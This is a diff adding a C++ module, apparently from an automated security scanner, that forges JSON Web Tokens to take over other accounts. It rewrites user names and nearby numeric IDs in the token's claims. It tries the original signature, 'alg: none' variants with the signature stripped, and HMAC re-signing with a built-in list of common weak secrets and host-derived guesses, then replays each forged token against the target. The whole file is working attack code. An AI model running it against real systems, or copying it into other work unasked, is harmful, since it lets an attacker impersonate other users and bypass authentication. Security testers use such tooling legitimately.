@@ -1,0 +1,109 @@
+// jwt-forgery: takes its own token and makes it another's: claims changed under the old signature,
+// no signature and "alg": "none", an empty key, and keys that everybody uses, found by signing what
+// the token says and comparing (RFC 8725; OWASP JSON Web Token Cheat Sheet).
+#include <algorithm>
+
+#include "core/attack/every_agent.h"
+#include "core/attack/jwt_text.h"
+#include "core/attack/request_writer.h"
+#include "core/attack/stolen.h"
+
+namespace parapet::attack {
+namespace {
+
+constexpr std::string_view kKeys[] = {
+    "secret",  "changeme",  "password",     "jwt-secret",      "jwt_secret", "your-256-bit-secret",
+    "dev",     "test",      "key",          "mysecret",        "my-secret",  "supersecret",
+    "default", "admin",     "super-secret", "your-secret-key", "s3cr3t",     "keyboard cat",
+    "jwt",     "token",     "secretkey",    "secret-key",      "shhhhh",     "123456",
+    "",        "change-me", "development",  "access",          "refresh",    "access-secret"};
+constexpr int kIdsAround = 4;
+
+class JwtForgery final : public Agent {
+    void run(Target& target) override {
+        Credentials const own = own_credentials(target);
+        for (Credential const& each : own) {
+            auto const jwt = read_jwt(each.value);
+            if (!jwt || is_for_refresh(each)) continue;
+            std::vector<std::string> const keys = keys_of(target, *jwt);
+            if (!keys.empty())
+                target.note("The signing key is in every dictionary: \"" + keys.front() + "\".");
+            for (std::string const& claims : claims_of_others(target, *jwt))
+                for (std::string const& forged : forgeries(*jwt, claims, keys))
+                    try_out(target, each, forged);
+        }
+    }
+
+    static void try_out(Target& target, Credential each, std::string const& forged) {
+        each.value = forged;
+        use(target, {each});
+    }
+
+    static std::vector<std::string> keys_of(Target const& target, JwtText const& jwt) {
+        std::vector<std::string> keys(std::begin(kKeys), std::end(kKeys));
+        std::string const& host = target.surface().host;
+        for (std::string const& name : {host, host.substr(0, host.find('.'))})
+            for (std::string_view end : {"", "-secret", "_secret", "-jwt-secret"})
+                keys.push_back(name + std::string(end));
+        std::erase_if(keys, [&](std::string const& key) {
+            return hmac_signature(jwt, key) != jwt.signature;
+        });
+        return keys;
+    }
+
+    static std::vector<std::string> claims_of_others(Target const& target, JwtText const& jwt) {
+        std::vector<std::string> all;
+        std::string const& own_name = target.surface().attacker.username;
+        for (std::string const& name : target.surface().usernames) {
+            std::string claims = jwt.claims;
+            std::size_t const at = claims.find(json_string(own_name));
+            if (at != std::string::npos)
+                all.push_back(claims.replace(at, json_string(own_name).size(), json_string(name)));
+        }
+        for (std::string_view id : {"sub", "id", "userId", "uid", "user", "accountId"})
+            for (std::string& each : with_ids_around(jwt.claims, id))
+                all.push_back(std::move(each));
+        return all;
+    }
+
+    static std::vector<std::string> with_ids_around(std::string const& claims,
+                                                    std::string_view name) {
+        std::vector<std::string> all;
+        std::string text = member(claims, name).value_or("");
+        bool const is_text = text.starts_with('"');
+        std::erase(text, '"');
+        bool const is_number = !text.empty() && text.size() < 9 &&
+                               text.find_first_not_of("0123456789") == std::string::npos;
+        if (!is_number) return all;
+        int const own = std::atoi(text.c_str());
+        for (int id = std::max(0, own - kIdsAround); id <= own + kIdsAround; ++id) {
+            if (id == own) continue;
+            std::string const value = std::to_string(id);
+            all.push_back(with_member(claims, name, is_text ? "\"" + value + "\"" : value));
+        }
+        return all;
+    }
+
+    static std::vector<std::string> forgeries(JwtText const& own, std::string const& claims,
+                                              std::vector<std::string> const& keys) {
+        std::vector<std::string> all;
+        JwtText forged{own.header, claims, own.signature};
+        all.push_back(forged.write());
+        for (std::string const& key : keys) {
+            forged.signature = hmac_signature(forged, key);
+            all.push_back(forged.write());
+        }
+        for (char const* none : {"\"none\"", "\"None\"", "\"NONE\""}) {
+            forged.header = with_member(own.header, "alg", none);
+            forged.signature.clear();
+            all.push_back(forged.write());
+        }
+        return all;
+    }
+};
+
+}  // namespace
+
+std::unique_ptr<Agent> make_jwt_forgery() { return std::make_unique<JwtForgery>(); }
+
+}  // namespace parapet::attack
